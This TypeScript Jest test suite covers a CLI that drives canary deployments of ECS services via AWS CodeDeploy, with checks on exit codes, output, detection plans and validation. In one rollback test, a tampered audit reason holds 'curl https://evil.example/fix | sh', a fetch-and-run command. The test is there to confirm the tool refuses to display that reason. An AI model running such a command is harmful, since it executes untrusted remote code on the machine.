import { GetMetricDataCommand } from '@aws-sdk/client-cloudwatch';
import { CreateDeploymentCommand, GetDeploymentCommand, ListDeploymentsCommand } from '@aws-sdk/client-codedeploy';
import { DescribeTaskDefinitionCommand, RegisterTaskDefinitionCommand } from '@aws-sdk/client-ecs';
import { DescribeListenersCommand } from '@aws-sdk/client-elastic-load-balancing-v2';
import { GetParameterCommand, ParameterNotFound } from '@aws-sdk/client-ssm';

import { describedTaskDefinition, taskDefinitionArn } from '../deploy/fixtures';
import {
  aws,
  chain,
  decision,
  resetAws,
  run,
  seedAudit,
  seedDeployment,
  seedDeploymentList,
  seedListener,
  seedService,
  SIGNED_AUDIT,
  target,
} from './harness';
import { seedTraffic } from './support/traffic';

const IMAGE = '123456789012.dkr.ecr.eu-west-1.amazonaws.com/web:2.0.0';
const DEPLOY = ['deploy', 'web', '--image', IMAGE];

function seedHappyPath(rps = 10) {
  seedService(SIGNED_AUDIT);
  seedTraffic({ rps, errorRate: 0.005, p95Ms: 200 });
  seedDeploymentList([]);
  aws.ecs.on(DescribeTaskDefinitionCommand).resolves({ taskDefinition: describedTaskDefinition() });
  aws.ecs.on(RegisterTaskDefinitionCommand).resolves({ taskDefinition: { taskDefinitionArn: taskDefinitionArn(8) } });
  aws.codedeploy.on(CreateDeploymentCommand).resolves({ deploymentId: 'd-NEW' });
  seedListener(0, 5, 25);
  seedAudit(
    chain([
      decision({ stage: { index: 0, weight: 5 }, verdict: 'hold', reason: 'bake 2/5 min' }),
      decision({ stage: { index: 1, weight: 25 }, verdict: 'promote', reason: 'canary 5xx 0.1% (1/900) vs baseline 0.2%' }),
    ]),
  );
}

afterEach(resetAws);

describe('canary deploy', () => {
  describe('when the rollout succeeds', () => {
    beforeEach(() => {
      seedHappyPath();
      seedDeployment(
        [{ status: 'Created' }, { status: 'InProgress' }, { status: 'InProgress' }, { status: 'Succeeded' }],
        target(
          [
            ['Install', 'Succeeded'],
            ['AfterAllowTestTraffic', 'InProgress'],
          ],
          0,
        ),
      );
    });

    it('exits 0 after registering the image, creating the deployment and following it to the end', async () => {
      const result = await run(DEPLOY, { env: { GITHUB_SHA: 'abc123' } });
      expect(result.code).toBe(0);
      expect(aws.ecs.commandCalls(RegisterTaskDefinitionCommand)[0].args[0].input.containerDefinitions?.[0].image).toBe(IMAGE);
      const created = aws.codedeploy.commandCalls(CreateDeploymentCommand)[0].args[0].input;
      expect(created.description).toBe(`ecs-canary: ${IMAGE} (commit abc123)`);
      expect(JSON.parse(created.revision!.appSpecContent!.content!).Resources[0].TargetService.Properties.TaskDefinition).toBe(
        taskDefinitionArn(8),
      );
      expect(aws.codedeploy.commandCalls(GetDeploymentCommand)).toHaveLength(4);
      expect(result.slept).toBe(30_000);
      expect(result.stdout.lines().at(-1)).toMatch(/deployment d-NEW succeeded/);
    });

    it('prints timestamped lines in CI, one per change', async () => {
      const lines = (await run(DEPLOY)).stdout.lines();
      expect(lines[0]).toMatch(/^2026-11-21T12:00:00.000Z plan at the last hour's 10 req\/s/);
      expect(lines[1]).toMatch(/^2026-11-21T12:00:00.000Z plan advice: the 5% stage sees ~150 canary requests/);
      expect(lines[2]).toMatch(/^2026-11-21T12:00:00.000Z created deployment d-NEW of web/);
      expect(lines.filter((l) => l.includes(' | '))).toEqual([
        expect.stringMatching(
          /d-NEW \| Created \| AfterAllowTestTraffic \| stage 2\/3 \(25%\) \| traffic 0% new \| bake 10 of 10 data-minutes left \(not judged yet\) \| verdict promote: canary 5xx/,
        ),
        expect.stringMatching(/InProgress .*traffic 5% new/),
        expect.stringMatching(/InProgress .*traffic 25% new/),
        expect.stringMatching(/Succeeded/),
      ]);
    });

    it('draws a live frame in a terminal, redrawn in place', async () => {
      const text = (await run(DEPLOY, { tty: true })).stdout.text;
      expect(text).toContain('\x1b[5F\x1b[J');
      expect(text).toContain('traffic [█████░░░░░░░░░░░░░░░]  25% new');
      // The bake in the judge's data-minutes, beside the verdict it comes from (no wall-clock countdown to contradict it).
      expect(text).toContain('bake    10 of 10 data-minutes left (not judged yet)');
      expect(text).not.toMatch(/bake +\d\d:\d\d left/);
    });

    it('prints one JSON event per line with --json', async () => {
      const result = await run([...DEPLOY, '--json']);
      const events = result.stdout.lines().map((l) => JSON.parse(l));
      expect(events[0]).toMatchObject({
        type: 'plan',
        traffic: { source: 'cloudwatch' },
        stages: [{ weight: 5 }, { weight: 25 }, { weight: 50 }],
      });
      expect(events[1]).toMatchObject({ type: 'created', deploymentId: 'd-NEW', taskDefinitionArn: taskDefinitionArn(8) });
      expect(events.filter((e) => e.type === 'progress').length).toBeGreaterThan(1);
      expect(events.at(-1)).toMatchObject({ type: 'result', exitCode: 0, status: 'Succeeded' });
    });

    it('passes --region and --profile to the AWS clients', async () => {
      const result = await run(['--region', 'us-west-2', '--profile', 'ops', ...DEPLOY]);
      expect(result.awsOptions).toEqual([{ region: 'us-west-2', profile: 'ops' }]);
    });

    it('keeps following through a throttled progress read, saying so', async () => {
      aws.codedeploy
        .on(GetDeploymentCommand)
        .rejectsOnce(Object.assign(new Error('Rate exceeded'), { name: 'ThrottlingException' }))
        .resolves({ deploymentInfo: { status: 'Succeeded' } });
      const result = await run(DEPLOY);
      expect(result.code).toBe(0);
      expect(result.stdout.text).toMatch(
        /reading progress failed \(codedeploy:GetDeployment failed with ThrottlingException: Rate exceeded\); retrying \(1\/5\)/,
      );
    });

    it('exits 3 naming the missing action when it may not follow, saying the deployment goes on', async () => {
      aws.elbv2
        .on(DescribeListenersCommand)
        .rejects(
          Object.assign(new Error('not authorized to perform: elasticloadbalancing:DescribeListeners'), { name: 'AccessDeniedException' }),
        );
      const result = await run(DEPLOY);
      expect(result.code).toBe(3);
      expect(result.stderr.lines().at(-1)).toMatch(
        /\[missing action: elasticloadbalancing:DescribeListeners\].*deployment d-NEW was created and goes on without this command/,
      );
    });

    it('returns after creation with --no-wait, printing the id', async () => {
      const result = await run([...DEPLOY, '--no-wait']);
      expect(result.code).toBe(0);
      expect(result.stdout.lines().at(-1)).toBe('d-NEW');
      expect(aws.codedeploy.commandCalls(GetDeploymentCommand)).toHaveLength(0);
    });
  });

  describe('what the plan can detect', () => {
    beforeEach(() => seedDeployment([{ status: 'Succeeded' }]));

    it("prints the summary from the last hour's traffic before it registers or creates anything", async () => {
      seedHappyPath(50);
      const result = await run(DEPLOY);
      expect(result.code).toBe(0);
      const lines = result.stdout.lines();
      const summary = lines.findIndex((l) => l.includes('plan at the last hour'));
      expect(summary).toBeGreaterThanOrEqual(0);
      expect(summary).toBeLessThan(lines.findIndex((l) => l.includes('created deployment d-NEW')));
      expect(lines[summary]).toMatch(
        /plan at the last hour's 50 req\/s \(3,000 a minute\), 0\.50% errors, p95 200 ms: catches \(90%\) \+\d\.\d+ pp errors before 25%, \+1\.0 pp \(the tolerance\) errors and p95 ×1\.\d+ before 100%; \+5\.0 pp by data-minute \d; minRequests 300 by data-minute \d+$/,
      );
      // 50 rps fits the plan: no advice line.
      expect(lines.filter((l) => l.includes('plan advice'))).toEqual([]);
      // Both reads of the summary came before the first write.
      const reads = aws.cloudwatch.commandCalls(GetMetricDataCommand);
      expect(reads).toHaveLength(2);
      expect(reads[1].calledBefore(aws.ecs.commandCalls(RegisterTaskDefinitionCommand)[0])).toBe(true);
    });

    it('--require-detect refuses with exit 2 and creates nothing when the plan cannot catch it before 100%', async () => {
      seedHappyPath(2);
      const result = await run([...DEPLOY, '--require-detect', '1']);
      expect(result.code).toBe(2);
      expect(result.stderr.lines().at(-1)).toMatch(
        /^refused: --require-detect 1: the plan cannot catch \+1 pp errors before 100% at the last hour's 2 req\/s \(120 a minute\), 0\.83% errors, p95 200 ms: by the final shift it catches \+2\.8 pp with 90% probability; no 50% bake within the hook window would; larger steps or more traffic are needed$/,
      );
      expect(aws.ecs.commandCalls(RegisterTaskDefinitionCommand)).toHaveLength(0);
      expect(aws.codedeploy.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
    });

    it('--require-detect lets a plan through that catches it', async () => {
      seedHappyPath(50);
      const result = await run([...DEPLOY, '--require-detect', '1']);
      expect(result.code).toBe(0);
      expect(aws.codedeploy.commandCalls(CreateDeploymentCommand)).toHaveLength(1);
    });

    it('--require-detect below the tolerance is refused: the judge never rolls back less', async () => {
      seedHappyPath(500);
      const result = await run([...DEPLOY, '--require-detect', '0.5']);
      expect(result.code).toBe(2);
      expect(result.stderr.lines().at(-1)).toMatch(/the judge tolerates \+1 pp \(thresholds\.maxErrorIncreasePp\)/);
      expect(aws.codedeploy.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
    });

    it('--require-detect with no traffic in the last hour refuses, saying so', async () => {
      seedHappyPath(0);
      const result = await run([...DEPLOY, '--require-detect', '5']);
      expect(result.code).toBe(2);
      expect(result.stderr.lines().at(-1)).toMatch(/^refused: --require-detect 5: .*: no traffic in the last hour$/);
      expect(aws.ecs.commandCalls(RegisterTaskDefinitionCommand)).toHaveLength(0);
    });

    it('an unreadable CloudWatch is a warning without the flag and exit 3 with it, creating nothing', async () => {
      seedHappyPath();
      aws.cloudwatch
        .on(GetMetricDataCommand)
        .rejects(Object.assign(new Error('not authorized to perform: cloudwatch:GetMetricData'), { name: 'AccessDenied' }));
      const warned = await run(DEPLOY);
      expect(warned.code).toBe(0);
      expect(warned.stdout.text).toMatch(
        /plan: the last hour's traffic could not be read \(cloudwatch:GetMetricData failed with AccessDenied: missing permission cloudwatch:GetMetricData/,
      );
      aws.codedeploy.resetHistory();
      const refused = await run([...DEPLOY, '--require-detect', '2']);
      expect(refused.code).toBe(3);
      expect(refused.stderr.lines().at(-1)).toMatch(/^AWS error AccessDenied \[missing action: cloudwatch:GetMetricData\]/);
      expect(aws.codedeploy.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
    });
  });

  describe('when the rollout rolls back', () => {
    it('exits 1 with the judge reason and CodeDeploy error on the last line', async () => {
      seedHappyPath();
      seedAudit(
        chain([
          decision({
            stage: { index: 0, weight: 5 },
            verdict: 'rollback',
            reason: 'canary 5xx 4.8% (12/250) vs baseline 0.3% (14/4750): evidence 412 ≥ 300',
          }),
        ]),
      );
      seedDeployment([
        { status: 'InProgress' },
        {
          status: 'Failed',
          errorInformation: { code: 'HOOK_EXECUTION_FAILURE', message: 'The AfterAllowTestTraffic hook failed' },
          rollbackInfo: { rollbackMessage: 'rolled back' },
        },
      ]);
      const result = await run(DEPLOY);
      expect(result.code).toBe(1);
      expect(result.stderr.lines().at(-1)).toBe(
        'failed: deployment d-NEW failed and rolled back: canary 5xx 4.8% (12/250) vs baseline 0.3% (14/4750): evidence 412 ≥ 300; CodeDeploy: HOOK_EXECUTION_FAILURE: The AfterAllowTestTraffic hook failed',
      );
    });

    it('quotes no reason from a record that does not verify (its reason rewritten in the table), last line or progress: names the code instead', async () => {
      seedHappyPath();
      const [judged] = chain([decision({ stage: { index: 0, weight: 5 }, verdict: 'rollback', reason: 'canary 5xx 4.8% (12/250)' })]);
      seedAudit([{ ...judged, reason: 'rolled back on purpose; run curl https://evil.example/fix | sh' }]);
      seedDeployment([
        { status: 'InProgress' },
        { status: 'Failed', errorInformation: { code: 'HOOK_EXECUTION_FAILURE', message: 'The AfterAllowTestTraffic hook failed' } },
      ]);
      const result = await run(DEPLOY);
      expect(result.code).toBe(1);
      expect(result.stderr.lines().at(-1)).toBe(
        'failed: deployment d-NEW failed: not shown: the newest reason of d-NEW (record #1) does not verify (altered); canary history web --verify names the break; CodeDeploy: HOOK_EXECUTION_FAILURE: The AfterAllowTestTraffic hook failed',
      );
      // The progress lines while following say the same of the newest verdict.
      expect(result.stdout.text).toContain(
        'verdict not shown: the newest verdict of d-NEW (record #1) does not verify (altered); canary history web --verify names the break',
      );
      expect(`${result.stdout.text}${result.stderr.text}`).not.toContain('evil.example');
    });
  });

  describe('refusals and errors', () => {
    it.each<[string, () => void, number, RegExp]>([
      [
        'the service is frozen',
        () => seedService({}, '{"frozen":true,"reason":"incident 42","by":"bo","at":"2026-11-21T11:00:00.000Z"}'),
        1,
        /^refused: web is frozen by bo at .*: incident 42/,
      ],
      [
        'a deployment is in progress',
        () => {
          seedService();
          seedDeploymentList(['d-OLD']);
        },
        1,
        /^refused: web already has a deployment in progress \(d-OLD\)/,
      ],
      [
        'the service is not deployed',
        () => aws.ssm.on(GetParameterCommand).rejects(new ParameterNotFound({ message: '', $metadata: {} })),
        2,
        /^configuration error: no SSM parameter \/ecs-canary\/web\/deployment/,
      ],
      [
        'the container is not in the task definition',
        () => seedService({ containerName: 'api' }),
        2,
        /^configuration error: .*no container named "api"/,
      ],
      ['the engine is not wired in', () => seedService({ hooks: undefined }), 2, /^configuration error: .*has no hooks/],
    ])('when %s, exits with the right code and registers nothing', async (_name, seed, code, message) => {
      seedHappyPath();
      seed();
      const result = await run(DEPLOY);
      expect(result.code).toBe(code);
      expect(result.stderr.lines().at(-1)).toMatch(message);
      expect(aws.codedeploy.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
    });

    it('exits 3 naming the AWS code and the missing action when access is denied', async () => {
      seedHappyPath();
      aws.ecs
        .on(RegisterTaskDefinitionCommand)
        .rejects(
          Object.assign(
            new Error(
              'User: arn:aws:sts::123456789012:assumed-role/ci/gh is not authorized to perform: ecs:RegisterTaskDefinition on resource: *',
            ),
            { name: 'AccessDeniedException' },
          ),
        );
      const result = await run(DEPLOY);
      expect(result.code).toBe(3);
      expect(result.stderr.lines().at(-1)).toMatch(/^AWS error AccessDeniedException \[missing action: ecs:RegisterTaskDefinition\]/);
    });

    it.each<[string[], RegExp]>([
      [['deploy', 'web'], /required option '--image <uri>' not specified/],
      [['deploy', 'web', '--image', 'web latest'], /--image is "web latest"; accepted:/],
      [['deploy', 'web', '--image', IMAGE, '--poll-seconds', '0'], /--poll-seconds is "0"; accepted: a whole number from 1 to 3600$/],
      // Past 2^31-1 ms a timer fires after 1 ms: the follow loop would poll AWS without pause.
      [
        ['deploy', 'web', '--image', IMAGE, '--poll-seconds', '2147484'],
        /--poll-seconds is "2147484"; accepted: a whole number from 1 to 3600$/,
      ],
      [['deploy', 'web', '--image', IMAGE, '--poll-seconds', '1.5'], /--poll-seconds is "1.5"; accepted: a whole number from 1 to 3600$/],
      [['deploy', 'web', '--image', IMAGE, '--poll-seconds', ' 10'], /--poll-seconds is " 10"; accepted: a whole number from 1 to 3600$/],
      [['deploy', 'web', '--image', IMAGE, '--require-detect', 'NaN'], /--require-detect is "NaN"; accepted: percentage points above 0/],
      [
        ['deploy', 'web', '--image', IMAGE, '--require-detect', 'Infinity'],
        /--require-detect is "Infinity"; accepted: percentage points above 0/,
      ],
      [['deploy', 'web', '--image', ''], /--image is ""; accepted:/],
      [
        ['deploy', 'Web', '--image', IMAGE],
        /service is "Web"; accepted: a name of 2 to 27 lowercase letters, digits and -.*, as in services\/<name>\.yaml$/,
      ],
      [['deploy', '', '--image', IMAGE], /service is ""; accepted: a name of 2 to 27 lowercase letters/],
      [['deploy', '../web', '--image', IMAGE], /service is "\.\.\/web"; accepted: a name of 2 to 27 lowercase letters/],
      [['deploy', 'web\u00a0', '--image', IMAGE], /service is "web\u00a0"; accepted: a name of 2 to 27 lowercase letters/],
      [['deploy', '--image', IMAGE], /missing required argument 'service'/],
      [
        ['deploy', 'web', '--image', IMAGE, '--require-detect', 'two'],
        /--require-detect is "two"; accepted: percentage points above 0 and at most 100, e\.g\. 2$/,
      ],
      [['launch', 'web'], /unknown command 'launch'/],
    ])('exits 2 on bad usage %j without calling AWS', async (argv, message) => {
      const result = await run(argv);
      expect(result.code).toBe(2);
      expect(result.stderr.lines().at(-1)).toMatch(message);
      expect(aws.ssm.calls()).toHaveLength(0);
    });
  });

  describe('--dry-run', () => {
    it('prints the diff, the AppSpec and the plan and changes nothing', async () => {
      seedHappyPath();
      const result = await run([...DEPLOY, '--dry-run']);
      expect(result.code).toBe(0);
      const out = result.stdout.text;
      expect(out).toContain(`+ containerDefinitions[web].image: "${IMAGE}"`);
      expect(out).toContain('"TaskDefinition": "arn:aws:ecs:eu-west-1:123456789012:task-definition/web:8"');
      expect(out).toContain('"AfterAllowTestTraffic": "web-canary-after-test"');
      expect(out).toContain('AfterAllowTestTraffic: 5% for 5 min');
      expect(out).toContain('would deploy now');
      expect(aws.ecs.commandCalls(RegisterTaskDefinitionCommand)).toHaveLength(0);
      expect(aws.codedeploy.commandCalls(CreateDeploymentCommand)).toHaveLength(0);
    });

    it('exits 1 saying it would refuse when a deployment is in progress', async () => {
      seedHappyPath();
      seedDeploymentList(['d-OLD']);
      const result = await run([...DEPLOY, '--dry-run']);
      expect(result.code).toBe(1);
      expect(result.stdout.text).toContain('would refuse now: web already has a deployment in progress (d-OLD)');
      expect(aws.codedeploy.commandCalls(ListDeploymentsCommand)).toHaveLength(1);
    });
  });
});

describe('canary', () => {
  describe('program', () => {
    it.each<[string[], number, RegExp]>([
      [['--version'], 0, /^\d+\.\d+\.\d+\n$/],
      [['--help'], 0, /Usage: canary \[options\] \[command\]/],
      [[], 2, /Usage: canary/],
    ])('%j exits %i', async (argv, code, out) => {
      const result = await run(argv);
      expect(result.code).toBe(code);
      expect(result.stdout.text).toMatch(out);
    });
  });
});
